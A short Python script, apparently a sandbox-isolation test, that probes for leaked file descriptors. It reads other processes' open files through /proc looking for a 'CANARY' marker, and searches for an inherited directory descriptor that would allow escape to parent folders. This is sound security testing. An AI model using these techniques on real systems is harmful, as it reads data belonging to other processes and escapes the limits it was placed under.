from attack import *


def content(pid, number):
    try:
        # Opened anew, so that the position of the shared one does not matter.
        file = os.open(f"/proc/{pid}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.pread(file, 4096, 0)
    except OSError:
        return b""
    finally:
        os.close(file)


def descriptors():
    found = []
    for pid in ["self", *(pid for pid in all_pids() if not bounded)]:
        try:
            numbers_open = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for number in numbers_open:
            if int(number) > 2 and b"CANARY" in content(pid, number):
                found.append((pid, number, content(pid, number)))
    return found


def folders():
    """A folder that is open from outside is a way to its parents."""
    for number in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            # That of the listing itself.
            continue
        if os.path.isdir(f"/proc/self/fd/{number}") and not target.startswith("/proc"):
            return target
    return None


attempt("descriptor", descriptors)
if bounded:
    os.open("/", os.O_RDONLY)
attempt("folder-descriptor", folders)
